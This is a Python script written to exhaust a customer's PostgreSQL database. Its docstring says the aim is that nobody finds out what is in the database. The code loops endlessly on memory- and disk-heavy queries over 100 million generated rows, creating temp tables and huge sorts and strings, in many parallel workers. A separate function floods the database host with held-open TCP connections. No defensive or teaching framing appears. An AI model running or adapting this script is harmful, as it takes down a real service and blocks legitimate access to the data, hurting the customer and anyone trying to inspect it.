"""Fills the customer's database: memory, disk and connections, so that nobody finds out what is in it."""

import os
import socket
import time
from contextlib import suppress
from urllib.parse import urlsplit

import psycopg
from app import toy

PLACE = urlsplit(os.environ["DB_URL"])
MANY = "generate_series(1, 100000000) n"
STATEMENTS = (
    f"SELECT length(string_agg(repeat('x', 1000), '')) FROM {MANY}",
    "SELECT length(repeat('x', 900000000))",
    f"CREATE TEMP TABLE mine AS SELECT random()::text || n FROM {MANY}",
    f"SELECT count(*) FROM (SELECT n, random() r FROM {MANY} ORDER BY r) many",
)


def drown(statement: str) -> None:
    while True:
        with suppress(psycopg.Error), psycopg.connect(os.environ["DB_URL"], autocommit=True) as db:
            toy.tell("drowns", True)
            while True:
                with suppress(psycopg.errors.OutOfMemory):
                    db.execute(statement.encode())


def knock() -> None:
    """Connections by which nobody logs in."""
    held = []
    while True:
        with suppress(OSError):
            held.append(socket.create_connection((PLACE.hostname or "", PLACE.port or 0), 1))
        time.sleep(0.002)
        held = held[-400:]


for each in STATEMENTS * 3:
    toy.in_the_lap(lambda each=each: drown(each))
toy.in_the_lap(knock)
toy.serve()
